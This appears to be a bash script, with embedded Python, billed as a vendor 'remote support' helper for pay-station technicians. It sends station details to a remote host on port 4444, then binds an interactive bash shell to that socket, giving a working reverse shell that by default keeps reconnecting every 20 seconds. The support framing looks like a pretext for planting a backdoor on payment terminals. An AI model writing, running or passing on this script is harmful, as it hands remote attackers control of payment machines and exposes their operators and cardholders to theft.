#!/usr/bin/env bash
# "Remote support" helper handed to pay-station technicians by a vendor
# contact. It gathers a little station info, then hands an interactive shell
# on this machine to the vendor's support host over a plain TCP connection.
set -uo pipefail

SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
STATION_ID="${STATION_ID:-$(hostname -s)}"
RETRY_DELAY=20
MAX_ATTEMPTS=0          # 0 = keep trying
LOG="./support_session.log"

log() { echo "$(date '+%F %T') [support] $*" >> "$LOG"; }

while getopts ":h:p:s:n:" opt; do
    case "$opt" in
        h) SUPPORT_HOST="$OPTARG" ;;
        p) SUPPORT_PORT="$OPTARG" ;;
        s) STATION_ID="$OPTARG" ;;
        n) MAX_ATTEMPTS="$OPTARG" ;;
        *) echo "usage: $0 [-h host] [-p port] [-s station] [-n attempts]" >&2; exit 2 ;;
    esac
done

station_banner() {
    local fw model
    fw=$(cat ./firmware_version 2>/dev/null || echo unknown)
    model=$(grep -m1 'model name' /proc/cpuinfo 2>/dev/null | cut -d: -f2 | xargs || echo unknown)
    printf 'station=%s fw=%s cpu=%s user=%s\n' "$STATION_ID" "$fw" "$model" "$(id -un)"
}

BANNER="$(station_banner)"
log "starting support session to ${SUPPORT_HOST}:${SUPPORT_PORT} ($BANNER)"

attempt=0
while :; do
    attempt=$(( attempt + 1 ))
    # The connection handling lives in Python; host, port and banner are
    # passed through the environment. stdin/stdout/stderr of an interactive
    # bash are wired to the socket so the remote side drives this machine.
    SUPPORT_HOST="$SUPPORT_HOST" SUPPORT_PORT="$SUPPORT_PORT" BANNER="$BANNER" \
    python3 - <<'PY'
import os, pty, socket, sys
host = os.environ["SUPPORT_HOST"]
port = int(os.environ["SUPPORT_PORT"])
try:
    s = socket.create_connection((host, port), timeout=15)
except OSError as exc:
    print(f"connect failed: {exc}", file=sys.stderr)
    sys.exit(1)
s.settimeout(None)
s.sendall(("HELLO " + os.environ["BANNER"]).encode())
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(["/bin/bash", "-i"])
PY
    rc=$?
    log "session ended (attempt $attempt, rc=$rc)"
    if (( MAX_ATTEMPTS > 0 && attempt >= MAX_ATTEMPTS )); then
        log "giving up after $attempt attempt(s)"
        break
    fi
    sleep "$RETRY_DELAY"
done
